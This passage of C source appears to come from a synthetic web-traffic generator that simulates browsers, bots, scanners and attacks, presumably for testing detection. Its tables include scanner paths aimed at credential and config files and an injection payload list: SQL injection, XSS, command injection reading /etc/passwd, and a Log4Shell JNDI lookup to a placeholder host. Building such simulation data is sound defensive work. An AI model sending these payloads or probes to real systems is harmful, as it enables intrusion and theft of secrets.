/*
 * catalog.c -- trafficgen's constant tables: kinds, methods, user agents,
 * header sets, referers, search words, scanner wordlists, injection
 * payloads, undeclared routes and usernames.
 *
 * User agents are 16-bit codes so that a record stays small and a flood
 * that rotates its user agent per request costs nothing extra: codes below
 * UA_BROWSER_BASE index the fixed table, codes above encode a browser
 * template and one of its versions, formatted only when a line is written.
 * Browser versions are skewed to recent releases, as real populations are,
 * with a long tail of old ones.
 */
#include <string.h>

#include "tg.h"

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

/* ---------------------------------------------------------------- kinds */

static const char *const kind_names[TG_KIND_COUNT + 1] = {
    "human", "mobile", "partner", "monitor", "crawler", "credential_stuffing", "brute_force",
    "password_spraying", "account_takeover", "flood", "flood_rotating_ua", "scanner", "scraper",
    "enumeration", "undeclared_probe", "consumption", "distributed_stuffing",
    "distributed_scraping", "distributed_enumeration", "slow_stuffing", "persistent_ato",
    "session_rotation", "distributed_flood", "carrier_nat", "office_nat", "vpn_exit",
    "distributed_nat_stuffing", "office",
};

const char *tg_kind_name(tg_kind kind)
{
    return (unsigned)kind <= TG_KIND_COUNT ? kind_names[kind] : "?";
}

bool tg_kind_is_attack(tg_kind kind)
{
    return (kind >= TG_FIRST_ATTACK && kind < TG_SHARED_FIRST) || kind == TG_NAT_STUFFING;
}

bool tg_kind_is_named_attack(tg_kind kind)
{
    return kind >= TG_FIRST_ATTACK && kind < TG_SHARED_FIRST;
}

int tg_kind_parse(const char *name, size_t len)
{
    for (int k = 0; k < TG_KIND_COUNT; k++)
        if (strlen(kind_names[k]) == len && memcmp(kind_names[k], name, len) == 0)
            return k;
    return -1;
}

static const char *const method_names[TG_METHOD_COUNT] = {
    "GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PROPFIND", "TRACE", "PATCH",
};

const char *tg_method_name(tg_method m)
{
    return (unsigned)m < TG_METHOD_COUNT ? method_names[m] : "GET";
}

/* ----------------------------------------------------------- user agents */

typedef struct fixed_ua {
    uint8_t cls, header_set;
    const char *text;
} fixed_ua;

static const fixed_ua fixed_uas[] = {
    {TG_UA_APP, TG_HS_OKHTTP, "okhttp/4.12.0"},
    {TG_UA_APP, TG_HS_OKHTTP, "okhttp/4.11.0"},
    {TG_UA_APP, TG_HS_OKHTTP, "okhttp/4.9.3"},
    {TG_UA_APP, TG_HS_IOS_APP, "MyShop/3.2.1 (iPhone; iOS 17.4; Scale/3.00)"},
    {TG_UA_APP, TG_HS_IOS_APP, "MyShop/3.2 (iPhone; iOS 17)"},
    {TG_UA_APP, TG_HS_IOS_APP, "MyShop/3.1.4 (iPad; iOS 16.7; Scale/2.00)"},
    {TG_UA_APP, TG_HS_IOS_APP, "MyShop/3.2.0 (com.myshop.app; build:3201; iOS 18.1.0) Alamofire/5.8.1"},
    {TG_UA_APP, TG_HS_IOS_APP, "MyShop/3201 CFNetwork/1494.0.7 Darwin/23.4.0"},
    {TG_UA_APP, TG_HS_OKHTTP, "MyShop/3.2.1 (Android 14; Pixel 8) okhttp/4.12.0"},
    {TG_UA_APP, TG_HS_OKHTTP, "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)"},

    {TG_UA_PARTNER, TG_HS_PYTHON, "AcmeInventorySync/2.1 (+https://acme.example/bot)"},
    {TG_UA_PARTNER, TG_HS_PYTHON, "python-requests/2.31.0"},
    {TG_UA_PARTNER, TG_HS_GO, "Go-http-client/1.1"},
    {TG_UA_PARTNER, TG_HS_GO, "PriceRadar-Feed/4.7 (+https://priceradar.example/about)"},
    {TG_UA_PARTNER, TG_HS_CURL, "ShopSync-Connector/1.9.3 Java/17.0.9"},
    {TG_UA_PARTNER, TG_HS_AIOHTTP, "axios/1.6.7"},
    {TG_UA_PARTNER, TG_HS_CURL, "Apache-HttpClient/4.5.14 (Java/11.0.21)"},
    {TG_UA_PARTNER, TG_HS_PYTHON, "LogiTrack-OrderBridge/3.0 python-requests/2.28.2"},

    {TG_UA_MONITOR, TG_HS_MONITOR, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"},
    {TG_UA_MONITOR, TG_HS_MONITOR, "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"},
    {TG_UA_MONITOR, TG_HS_MONITOR, "Datadog/Synthetics"},
    {TG_UA_MONITOR, TG_HS_MONITOR, "Blackbox Exporter/0.24.0"},
    {TG_UA_MONITOR, TG_HS_MONITOR, "ELB-HealthChecker/2.0"},
    {TG_UA_MONITOR, TG_HS_MONITOR, "Site24x7"},

    {TG_UA_KUBE, TG_HS_MONITOR, "kube-probe/1.29"},
    {TG_UA_KUBE, TG_HS_MONITOR, "kube-probe/1.28"},
    {TG_UA_KUBE, TG_HS_MONITOR, "kube-probe/1.30"},

    {TG_UA_GOOGLEBOT, TG_HS_CRAWLER, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
    {TG_UA_GOOGLEBOT, TG_HS_CRAWLER,
     "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like "
     "Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
     "+http://www.google.com/bot.html)"},
    {TG_UA_GOOGLEBOT, TG_HS_CRAWLER,
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; "
     "+http://www.google.com/bot.html) Chrome/131.0.6778.69 Safari/537.36"},
    {TG_UA_BINGBOT, TG_HS_CRAWLER, "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"},
    {TG_UA_BINGBOT, TG_HS_CRAWLER,
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
     "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"},

    {TG_UA_TOOL, TG_HS_PYTHON, "python-requests/2.31.0"},
    {TG_UA_TOOL, TG_HS_PYTHON, "python-requests/2.28.2"},
    {TG_UA_TOOL, TG_HS_CURL, "curl/8.4.0"},
    {TG_UA_TOOL, TG_HS_CURL, "curl/7.88.1"},
    {TG_UA_TOOL, TG_HS_GO, "Go-http-client/1.1"},
    {TG_UA_TOOL, TG_HS_GO, "Go-http-client/2.0"},
    {TG_UA_TOOL, TG_HS_PYTHON, "python-httpx/0.27.0"},
    {TG_UA_TOOL, TG_HS_AIOHTTP, "Python/3.11 aiohttp/3.9.1"},
    {TG_UA_TOOL, TG_HS_CURL, "Java/17.0.9"},
    {TG_UA_TOOL, TG_HS_OKHTTP, "okhttp/4.12.0"},
    {TG_UA_TOOL, TG_HS_CURL, "Wget/1.21.3"},
    {TG_UA_TOOL, TG_HS_CURL, "PostmanRuntime/7.36.0"},
    {TG_UA_TOOL, TG_HS_AIOHTTP, "axios/1.6.7"},
    {TG_UA_TOOL, TG_HS_AIOHTTP, "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"},
    {TG_UA_TOOL, TG_HS_PYTHON, "Scrapy/2.11.0 (+https://scrapy.org)"},

    {TG_UA_SCANNER, TG_HS_CURL, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"},
    {TG_UA_SCANNER, TG_HS_PYTHON, "sqlmap/1.7.11#stable (https://sqlmap.org)"},
    {TG_UA_SCANNER, TG_HS_GO, "gobuster/3.6"},
    {TG_UA_SCANNER, TG_HS_CURL, "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"},
    {TG_UA_SCANNER, TG_HS_GO, "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"},
    {TG_UA_SCANNER, TG_HS_GO, "Fuzz Faster U Fool v2.1.0-dev"},
    {TG_UA_SCANNER, TG_HS_CURL, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
    {TG_UA_SCANNER, TG_HS_CURL, "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"},
    {TG_UA_SCANNER, TG_HS_CURL, "feroxbuster/2.10.1"},

    {TG_UA_FLOODER, TG_HS_GO, "Go-http-client/1.1"},
    {TG_UA_FLOODER, TG_HS_CURL, "ApacheBench/2.3"},
    {TG_UA_FLOODER, TG_HS_AIOHTTP, "Python/3.11 aiohttp/3.9.1"},
    {TG_UA_FLOODER, TG_HS_GO, "hey/0.0.1"},
    {TG_UA_FLOODER, TG_HS_GO, "k6/0.48.0 (https://k6.io/)"},
    {TG_UA_FLOODER, TG_HS_HEADLESS,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.0.0 Safari/537.36"},
    {TG_UA_FLOODER, TG_HS_HEADLESS,
     "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/119.0.6045.105 "
     "Safari/537.36"},
};

#define UA_BROWSER_BASE 1024u
#define UA_VERSIONS_MAX 32u

static const char *const chrome_v[] = {"114", "116", "118", "119", "120", "121", "122", "123",
                                       "124", "125", "126", "127", "128", "129", "130", "131"};
static const char *const firefox_v[] = {"115", "118", "120", "121", "122", "123", "124", "125",
                                        "126", "127", "128", "129", "130", "131", "132", "133"};
static const char *const safari_v[] = {"16.6", "17.0", "17.1", "17.2", "17.3", "17.4",
                                       "17.5", "17.6", "18.0", "18.1", "18.2"};
static const char *const samsung_v[] = {"23.0", "24.0", "25.0", "26.0", "27.0"};

typedef struct browser_tpl {
    uint8_t cls, header_set, weight;
    const char *fmt; /* {v}: the version; {o}: the version with '_' for '.' */
    const char *const *versions;
    uint8_t nversions;
} browser_tpl;

#define V(a) a, (uint8_t)COUNT(a)

static const browser_tpl browsers[] = {
    {TG_UA_DESKTOP, TG_HS_CHROME, 40,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/{v}.0.0.0 Safari/537.36",
     V(chrome_v)},
    {TG_UA_DESKTOP, TG_HS_CHROME, 14,
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/{v}.0.0.0 Safari/537.36",
     V(chrome_v)},
    {TG_UA_DESKTOP, TG_HS_CHROME, 4,
     "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 "
     "Safari/537.36",
     V(chrome_v)},
    {TG_UA_DESKTOP, TG_HS_FIREFOX, 7,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0", V(firefox_v)},
    {TG_UA_DESKTOP, TG_HS_FIREFOX, 3,
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
     V(firefox_v)},
    {TG_UA_DESKTOP, TG_HS_FIREFOX, 3,
     "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0", V(firefox_v)},
    {TG_UA_DESKTOP, TG_HS_SAFARI, 10,
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/{v} Safari/605.1.15",
     V(safari_v)},
    {TG_UA_DESKTOP, TG_HS_CHROME, 10,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0",
     V(chrome_v)},
    {TG_UA_DESKTOP, TG_HS_CHROME, 2,
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0",
     V(chrome_v)},
    {TG_UA_PHONE, TG_HS_CHROME, 30,
     "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 "
     "Mobile Safari/537.36",
     V(chrome_v)},
    {TG_UA_PHONE, TG_HS_SAFARI, 30,
     "Mozilla/5.0 (iPhone; CPU iPhone OS {o} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
     "Gecko) Version/{v} Mobile/15E148 Safari/604.1",
     V(safari_v)},
    {TG_UA_PHONE, TG_HS_SAFARI, 6,
     "Mozilla/5.0 (iPad; CPU OS {o} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/{v} Mobile/15E148 Safari/604.1",
     V(safari_v)},
    {TG_UA_PHONE, TG_HS_FIREFOX, 3, "Mozilla/5.0 (Android 14; Mobile; rv:{v}.0) Gecko/{v}.0 Firefox/{v}.0",
     V(firefox_v)},
    {TG_UA_PHONE, TG_HS_CHROME, 8,
     "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
     "SamsungBrowser/{v} Chrome/115.0.0.0 Mobile Safari/537.36",
     V(samsung_v)},
    {TG_UA_PHONE, TG_HS_SAFARI, 5,
     "Mozilla/5.0 (iPhone; CPU iPhone OS {o} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
     "Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
     V(safari_v)},
};

/* Recent versions are most common; each step back is ~30% rarer. */
static uint32_t pick_version(tg_rng *r, uint32_t n)
{
    uint32_t back = (uint32_t)tg_exponential(r, 2.8);
    return back >= n ? tg_below(r, n) : n - 1 - back;
}

static uint16_t pick_browser(tg_rng *r, tg_ua_class cls)
{
    uint32_t total = 0;
    for (size_t i = 0; i < COUNT(browsers); i++)
        if (browsers[i].cls == cls)
            total += browsers[i].weight;
    uint32_t x = tg_below(r, total);
    for (size_t i = 0; i < COUNT(browsers); i++) {
        if (browsers[i].cls != cls)
            continue;
        if (x < browsers[i].weight)
            return (uint16_t)(UA_BROWSER_BASE + i * UA_VERSIONS_MAX +
                              pick_version(r, browsers[i].nversions));
        x -= browsers[i].weight;
    }
    return UA_BROWSER_BASE;
}

uint16_t tg_ua_pick(tg_rng *r, tg_ua_class cls)
{
    if (cls == TG_UA_DESKTOP || cls == TG_UA_PHONE)
        return pick_browser(r, cls);
    uint32_t n = 0;
    for (size_t i = 0; i < COUNT(fixed_uas); i++)
        n += fixed_uas[i].cls == cls;
    uint32_t k = tg_below(r, n);
    for (size_t i = 0; i < COUNT(fixed_uas); i++)
        if (fixed_uas[i].cls == cls && k-- == 0)
            return (uint16_t)i;
    return 0;
}

static size_t copy_bounded(char *buf, size_t cap, size_t at, const char *s, size_t n)
{
    if (at + n >= cap)
        n = at < cap ? cap - 1 - at : 0;
    memcpy(buf + at, s, n);
    return at + n;
}

size_t tg_ua_format(uint16_t code, char *buf, size_t cap)
{
    size_t at = 0;
    if (code < UA_BROWSER_BASE) {
        const char *s = fixed_uas[code < COUNT(fixed_uas) ? code : 0].text;
        at = copy_bounded(buf, cap, 0, s, strlen(s));
        buf[at] = '\0';
        return at;
    }
    uint32_t t = (code - UA_BROWSER_BASE) / UA_VERSIONS_MAX;
    uint32_t v = (code - UA_BROWSER_BASE) % UA_VERSIONS_MAX;
    const browser_tpl *b = &browsers[t < COUNT(browsers) ? t : 0];
    const char *ver = b->versions[v < b->nversions ? v : 0];
    for (const char *p = b->fmt; *p; p++) {
        if (p[0] == '{' && (p[1] == 'v' || p[1] == 'o') && p[2] == '}') {
            size_t start = at;
            at = copy_bounded(buf, cap, at, ver, strlen(ver));
            if (p[1] == 'o')
                for (size_t i = start; i < at; i++)
                    if (buf[i] == '.')
                        buf[i] = '_';
            p += 2;
        } else {
            at = copy_bounded(buf, cap, at, p, 1);
        }
    }
    buf[at] = '\0';
    return at;
}

uint8_t tg_ua_header_set(uint16_t code)
{
    if (code < UA_BROWSER_BASE)
        return code < COUNT(fixed_uas) ? fixed_uas[code].header_set : TG_HS_CURL;
    uint32_t t = (code - UA_BROWSER_BASE) / UA_VERSIONS_MAX;
    return t < COUNT(browsers) ? browsers[t].header_set : TG_HS_CHROME;
}

/* ------------------------------------------------------------ header sets */

/* Real arrival orders of each client software. $body expands to the body
 * headers on POST/PUT, $auth to the credential header when there is one,
 * referer and cookie drop out when the request has none. */
static const char *const header_sets[TG_HS_COUNT] = {
    [TG_HS_CHROME] = ("host,connection,sec-ch-ua,sec-ch-ua-mobile,sec-ch-ua-platform,"
                     "upgrade-insecure-requests,user-agent,accept,$body,sec-fetch-site,"
                     "sec-fetch-mode,sec-fetch-user,sec-fetch-dest,referer,accept-encoding,"
                     "accept-language,cookie"),
    [TG_HS_FIREFOX] = ("host,user-agent,accept,accept-language,accept-encoding,$body,referer,"
                      "connection,cookie,upgrade-insecure-requests,sec-fetch-dest,sec-fetch-mode,"
                      "sec-fetch-site"),
    [TG_HS_SAFARI] = ("host,$body,accept,sec-fetch-site,cookie,sec-fetch-dest,accept-language,"
                     "sec-fetch-mode,user-agent,referer,accept-encoding"),
    [TG_HS_CURL] = "host,user-agent,accept,cookie,$auth,$body",
    [TG_HS_PYTHON] = "host,user-agent,accept-encoding,accept,connection,cookie,$auth,$body",
    [TG_HS_GO] = "host,user-agent,$body,$auth,cookie,accept-encoding",
    [TG_HS_OKHTTP] = "host,$auth,$body,connection,accept-encoding,cookie,user-agent",
    [TG_HS_IOS_APP] = "host,accept,$auth,accept-encoding,accept-language,$body,user-agent,connection",
    [TG_HS_CRAWLER] = "host,connection,accept,from,user-agent,accept-encoding",
    [TG_HS_MONITOR] = "host,user-agent,accept,connection",
    [TG_HS_HEADLESS] = "host,user-agent,accept,$body,$auth,accept-encoding,cookie",
    [TG_HS_AIOHTTP] = "host,user-agent,accept,accept-encoding,cookie,$auth,$body",
    [TG_HS_NONE] = "",
};

size_t tg_header_names(uint8_t set, bool referer, bool cookie, bool body, bool auth, char *buf,
                       size_t cap)
{
    const char *p = header_sets[set < TG_HS_COUNT ? set : TG_HS_NONE];
    size_t at = 0;
    while (*p) {
        const char *end = strchr(p, ',');
        size_t n = end ? (size_t)(end - p) : strlen(p);
        const char *tok = p;
        size_t tn = n;
        if (n == 5 && memcmp(p, "$body", 5) == 0) {
            tok = "content-type,content-length";
            tn = body ? strlen(tok) : 0;
        } else if (n == 5 && memcmp(p, "$auth", 5) == 0) {
            tok = "authorization";
            tn = auth ? strlen(tok) : 0;
        } else if ((n == 7 && memcmp(p, "referer", 7) == 0 && !referer) ||
                   (n == 6 && memcmp(p, "cookie", 6) == 0 && !cookie)) {
            tn = 0;
        }
        if (tn) {
            if (at)
                at = copy_bounded(buf, cap, at, ",", 1);
            at = copy_bounded(buf, cap, at, tok, tn);
        }
        p += n;
        if (*p == ',')
            p++;
    }
    buf[at] = '\0';
    return at;
}

static const char *const referers[TG_REF_COUNT] = {
    "-",
    "https://shop.example/",
    "https://shop.example/products",
    "https://shop.example/products/",
    "https://shop.example/login",
    "https://shop.example/account",
    "https://www.google.com/",
    "https://www.bing.com/",
    "https://shop.example/search",
};

const char *tg_referer_text(uint8_t ref)
{
    return referers[ref < TG_REF_COUNT ? ref : 0];
}

/* ----------------------------------------------------------------- paths */

static const char *const search_words[] = {
    "shoes", "running+shoes", "red+dress", "laptop", "usb-c+cable", "coffee+maker",
    "headphones", "wireless+mouse", "backpack", "winter+jacket", "phone+case", "desk+lamp",
    "yoga+mat", "water+bottle", "sneakers", "kids+toys", "board+games", "gift+card",
    "monitor+27", "mechanical+keyboard", "hdmi", "sunglasses", "watch", "wallet",
    "office+chair", "blender", "air+fryer", "tent", "sleeping+bag", "bike+helmet",
    "socks", "t-shirt", "jeans", "hoodie", "perfume", "lipstick", "vitamin+d", "dog+food",
    "cat+litter", "garden+hose", "drill", "screwdriver+set", "led+strip", "smart+plug",
    "charger", "power+bank", "sd+card", "ssd+1tb", "webcam", "microphone", "ps5",
    "switch+games", "lego", "puzzle", "candles", "towels", "bed+sheets", "pillow",
    "frying+pan", "knife+set",
};

uint32_t tg_search_word_count(void)
{
    return COUNT(search_words);
}

/* What vulnerability scanners and content discovery tools ask for. */
static const char *const scan_paths[] = {
    "/.env", "/.env.local", "/.env.production", "/.git/config", "/.git/HEAD", "/.svn/entries",
    "/.hg/store", "/.DS_Store", "/.htaccess", "/.htpasswd", "/wp-login.php", "/wp-admin/",
    "/wp-content/plugins/", "/wp-includes/wlwmanifest.xml", "/xmlrpc.php", "/admin", "/admin/",
    "/admin/login", "/administrator/", "/phpmyadmin/", "/pma/", "/myadmin/", "/mysql/",
    "/actuator", "/actuator/health", "/actuator/env", "/actuator/heapdump", "/server-status",
    "/server-info", "/../../etc/passwd", "/..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd",
    "/cgi-bin/test.cgi", "/cgi-bin/php-cgi", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/backup.zip",
    "/backup.sql", "/backup.tar.gz", "/db.sql", "/dump.sql", "/database.sql", "/site.tar.gz",
    "/www.zip", "/config.php", "/config.php.bak", "/config.yml", "/config.json",
    "/web.config", "/settings.py", "/composer.json", "/package.json", "/Dockerfile",
    "/docker-compose.yml", "/.aws/credentials", "/.ssh/id_rsa", "/id_rsa", "/phpinfo.php",
    "/info.php", "/test.php", "/shell.php", "/cmd.php", "/console", "/debug", "/trace.axd",
    "/elmah.axd", "/jmx-console/", "/manager/html", "/solr/admin/", "/jenkins/", "/api/swagger",
    "/swagger-ui.html", "/v2/api-docs", "/druid/index.html", "/owa/", "/remote/login",
    "/vpn/index.html", "/.well-known/security.txt", "/crossdomain.xml", "/sitemap.xml.gz",
    "/login.action", "/struts2-showcase/", "/index.php?s=/index/think/app/invokefunction",
    "/boaform/admin/formLogin", "/HNAP1/", "/autodiscover/autodiscover.xml",
    "/ecp/Current/exporttool/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/storage/logs/laravel.log", "/.vscode/sftp.json", "/.idea/workspace.xml", "/error_log",
    "/old/", "/new/", "/temp/", "/tmp/", "/uploads/", "/files/", "/private/", "/secret/",
    "/static/../../../etc/passwd", "/static/app.js.map", "/static/app.js.bak", "/index.html.bak",
    "/robots.txt", "/", "/health", "/favicon.ico",
};

static const char *const scan_words[] = {
    "admin", "backup", "backups", "old", "test", "dev", "staging", "api", "private", "config",
    "db", "data", "dump", "export", "import", "logs", "log", "tmp", "temp", "upload", "uploads",
    "user", "users", "account", "accounts", "login", "signin", "panel", "cpanel", "dashboard",
    "console", "internal", "secret", "secrets", "keys", "credentials", "passwords", "install",
    "setup", "readme", "changelog", "license", "web", "www", "site", "portal", "shop", "store",
    "cart", "checkout", "orders", "invoice", "billing", "payment", "reports", "stats",
    "monitor", "metrics", "status", "server",
};

static const char *const scan_exts[] = {
    "", "/", ".php", ".bak", ".old", ".zip", ".tar.gz", ".sql", ".txt", ".json", ".xml", ".asp",
    ".aspx", ".jsp", ".html", "~",
};

uint32_t tg_scan_path_count(void)
{
    return COUNT(scan_paths);
}

uint32_t tg_scan_word_count(void)
{
    return COUNT(scan_words) * COUNT(scan_exts);
}

uint16_t tg_scan_status(uint32_t entry)
{
    if (entry >= COUNT(scan_paths))
        return 404;
    const char *p = scan_paths[entry];
    if (!strcmp(p, "/") || !strcmp(p, "/robots.txt") || !strcmp(p, "/health") ||
        !strcmp(p, "/favicon.ico"))
        return 200;
    if (strstr(p, "..") || strstr(p, "%2e") || strstr(p, "%2f"))
        return 400;
    if (p[1] == '.' || !strcmp(p, "/server-status") || !strcmp(p, "/server-info"))
        return 403;
    return 404;
}

static const char *const inject_payloads[] = {
    "%27%20OR%201%3D1--", "1%27%20OR%20%271%27%3D%271", "'OR'1'='1", "1%20UNION%20SELECT%20NULL,NULL,NULL--",
    "1+UNION+ALL+SELECT+username,password+FROM+users--", "<script>alert(1)</script>",
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "../../../../etc/passwd",
    "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D",
    "1%27%20AND%20SLEEP(5)--", "1;sleep(5)", "{{7*7}}", "%7B%7B7*7%7D%7D", "1);DROP+TABLE+users;--",
    "admin'--", "<img+src=x+onerror=alert(1)>", "1%20AND%201%3D2", "${7*7}", "|id",
    ";cat+/etc/passwd", "%0d%0aSet-Cookie:x=1", "1'%22", "-1+OR+3*2*1=6+AND+000768=000768--",
};

static const char *const inject_targets[] = {
    "/api/search?q=", "/api/products?page=", "/api/products/", "/products?page=", "/api/users/",
    "/?id=", "/login?next=",
};

uint32_t tg_inject_count(void)
{
    return COUNT(inject_payloads) * COUNT(inject_targets);
}

uint32_t tg_inject_target_count(void)
{
    return COUNT(inject_targets);
}

uint32_t tg_inject_payload_count(void)
{
    return COUNT(inject_payloads);
}

uint16_t tg_inject_status(uint32_t target)
{
    /* search and pages tolerate garbage; typed parameters reject it */
    static const uint16_t statuses[] = {200, 400, 404, 200, 400, 200, 200};
    return statuses[target % COUNT(statuses)];
}

typedef struct probe_route {
    const char *fmt; /* %u: an id */
    uint16_t status, alt_status; /* alt when the id is odd: the route answers both */
} probe_route;

/* Routes the OpenAPI document does not declare (API9:2023). */
static const probe_route probes[] = {
    {"/api/v1/admin/users", 401, 403},
    {"/api/internal/debug", 404, 200},
    {"/api/v2/users/export", 404, 404},
    {"/graphql", 404, 404},
    {"/api/users/%u/delete", 404, 405},
    {"/api/admin/config", 403, 403},
    {"/api/v1/users", 404, 404},
    {"/api/v1/users/%u", 404, 404},
    {"/api/debug/vars", 200, 200},
    {"/api/internal/metrics", 200, 403},
    {"/api/users/%u/roles", 403, 403},
    {"/api/users/%u/password-reset", 401, 401},
    {"/api/private/keys", 403, 403},
    {"/api/orders/export?format=csv", 404, 404},
    {"/api/v2/orders/%u", 404, 404},
    {"/api/admin/users?role=admin", 401, 401},
    {"/api/v3/api-docs", 404, 404},
    {"/api/users/me/tokens", 401, 401},
    {"/api/internal/cache/flush", 403, 403},
    {"/api/actuator/env", 404, 404},
    {"/api/users/%u/impersonate", 403, 403},
    {"/api/coupons/generate", 401, 200},
    {"/api/products/%u/price", 405, 405},
    {"/api/v2/products/%u/inventory", 404, 200},
};

uint32_t tg_probe_count(void)
{
    return COUNT(probes);
}

uint16_t tg_probe_status(uint32_t probe, uint32_t id)
{
    const probe_route *p = &probes[probe % COUNT(probes)];
    return (id & 1) ? p->alt_status : p->status;
}

/* ------------------------------------------------------------- usernames */

static const char *const first_names[] = {
    "james", "mary", "john", "linda", "robert", "patricia", "michael", "jennifer", "david",
    "elizabeth", "william", "susan", "richard", "jessica", "joseph", "sarah", "thomas", "karen",
    "carlos", "maria", "ahmed", "fatima", "wei", "li", "yuki", "hiro", "priya", "arjun", "olga",
    "ivan", "lucas", "sofia", "noah", "emma", "liam", "olivia", "mateo", "chloe", "lena", "jonas",
};
static const char *const last_names[] = {
    "smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis", "rodriguez",
    "martinez", "hernandez", "lopez", "gonzalez", "wilson", "anderson", "thomas", "taylor",
    "moore", "jackson", "martin", "lee", "perez", "thompson", "white", "harris", "sanchez",
    "clark", "lewis", "robinson", "walker", "mueller", "schmidt", "rossi", "dubois", "kowalski",
    "nguyen", "kim", "tanaka", "singh", "silva",
};
static const char *const mail_domains[] = {
    "gmail.com", "yahoo.com", "hotmail.com", "outlook.com", "aol.com", "gmx.de", "mail.ru",
    "icloud.com", "proton.me", "web.de", "yandex.ru", "live.com",
};

static size_t put_uint(char *buf, size_t cap, size_t at, uint32_t v)
{
    char tmp[12];
    size_t n = 0;
    do {
        tmp[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    while (n)
        at = copy_bounded(buf, cap, at, &tmp[--n], 1);
    return at;
}

static size_t put_str(char *buf, size_t cap, size_t at, const char *s)
{
    return copy_bounded(buf, cap, at, s, strlen(s));
}

size_t tg_username(uint32_t n, char *buf, size_t cap)
{
    uint64_t h = tg_mix64((uint64_t)n * 2654435761u + 7);
    const char *first = first_names[h % COUNT(first_names)];
    const char *last = last_names[(h >> 8) % COUNT(last_names)];
    const char *domain = mail_domains[(h >> 16) % COUNT(mail_domains)];
    uint32_t digits = (uint32_t)((h >> 24) % 100);
    size_t at = 0;
    switch ((h >> 40) % 5) {
    case 0: /* first.last@domain */
        at = put_str(buf, cap, at, first);
        at = put_str(buf, cap, at, ".");
        at = put_str(buf, cap, at, last);
        break;
    case 1: /* firstlast42@domain */
        at = put_str(buf, cap, at, first);
        at = put_str(buf, cap, at, last);
        at = put_uint(buf, cap, at, digits);
        break;
    case 2: /* flast1987 (no domain: a site login name) */
        at = copy_bounded(buf, cap, at, first, 1);
        at = put_str(buf, cap, at, last);
        at = put_uint(buf, cap, at, 1950 + digits % 55);
        buf[at] = '\0';
        return at;
    case 3: /* first_last@domain */
        at = put_str(buf, cap, at, first);
        at = put_str(buf, cap, at, "_");
        at = put_str(buf, cap, at, last);
        break;
    default: /* first + the user number, so that the name space is large */
        at = put_str(buf, cap, at, first);
        at = put_uint(buf, cap, at, n % 100000);
        break;
    }
    at = put_str(buf, cap, at, "@");
    at = put_str(buf, cap, at, domain);
    buf[at] = '\0';
    return at;
}

size_t tg_catalog_path(uint8_t route, uint32_t arg, uint32_t arg2, const char *since, char *buf,
                       size_t cap)
{
    size_t at = 0;
    switch ((tg_route)route) {
    case TG_R_HOME: at = put_str(buf, cap, at, "/"); break;
    case TG_R_PAGE_PRODUCTS:
        at = put_str(buf, cap, at, "/products");
        if (arg > 1) {
            at = put_str(buf, cap, at, "?page=");
            at = put_uint(buf, cap, at, arg);
        }
        break;
    case TG_R_PAGE_PRODUCT:
